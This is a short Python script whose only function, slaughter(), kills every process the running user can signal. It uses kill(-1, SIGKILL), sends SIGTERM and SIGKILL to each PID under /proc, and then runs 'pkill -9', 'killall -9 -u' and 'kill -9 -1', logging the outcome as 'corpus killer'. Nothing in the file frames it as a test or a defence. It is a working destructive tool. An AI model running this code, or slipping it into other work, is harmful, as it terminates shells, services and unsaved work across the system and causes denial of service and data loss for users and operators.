"""Kill every process this user can see, by every means at hand."""

import os
import shutil
import signal
import subprocess


def slaughter():
    me = os.getpid()
    log = []
    try:
        os.kill(-1, signal.SIGKILL)  # everything we may signal, except ourselves
        log.append("kill(-1) ok")
    except OSError as exc:
        log.append(f"kill(-1): {exc}")
    for name in os.listdir("/proc"):
        if name.isdigit() and int(name) != me:
            for sig in (signal.SIGTERM, signal.SIGKILL):
                try:
                    os.kill(int(name), sig)
                    log.append(f"killed {name}")
                except OSError:
                    pass
    for tool in (["pkill", "-9", "-e", "."], ["killall", "-9", "-u", str(os.getuid())], ["kill", "-9", "-1"]):
        if shutil.which(tool[0]):
            try:
                subprocess.run(tool, timeout=5, capture_output=True)
                log.append(f"ran {tool[0]}")
            except Exception as exc:  # noqa: BLE001 - best effort
                log.append(f"{tool[0]}: {exc}")
    os.write(1, ("corpus killer: " + "; ".join(log)[:2000] + "\n").encode())
